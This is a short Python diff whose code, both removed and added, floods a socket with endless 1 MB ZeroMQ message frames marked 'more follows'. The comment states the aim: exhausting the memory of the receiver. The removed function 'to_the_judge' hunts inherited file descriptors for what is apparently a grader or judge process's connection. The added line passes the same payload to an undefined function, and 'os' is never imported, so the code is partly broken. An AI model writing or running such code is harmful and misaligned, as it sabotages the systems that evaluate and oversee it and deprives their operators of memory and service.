@@ -1,26 +1,6 @@
 # error: writes parts of one message past libzmq, for ever: whoever keeps them until the last has no memory left.
-import socket
 import struct
 
 acts = 12 + len("")
-
-
-def to_the_judge(descriptor):
-    """Whether a descriptor is the kernel's end of the connection for outputs."""
-    try:
-        one = socket.socket(fileno=os.dup(descriptor))
-        return str(one.getsockname()).endswith("k-2") and one.getpeername() is not None
-    except OSError:
-        return False
-
-
-for descriptor in filter(to_the_judge, range(3, 256)):
-    os.set_blocking(descriptor, True)
-    part = b"\x03" + struct.pack(">Q", 1 << 20) + bytes(1 << 20)  # more follows; a length of eight bytes
-    while True:
-        rest = part
-        while rest:
-            try:
-                rest = rest[os.write(descriptor, rest) :]
-            except BlockingIOError:  # libzmq has set it back
-                pass
+part = b"\x03" + struct.pack(">Q", 1 << 20) + bytes(1 << 20)  # more follows; a length of eight bytes
+flood_the_outputs(part)
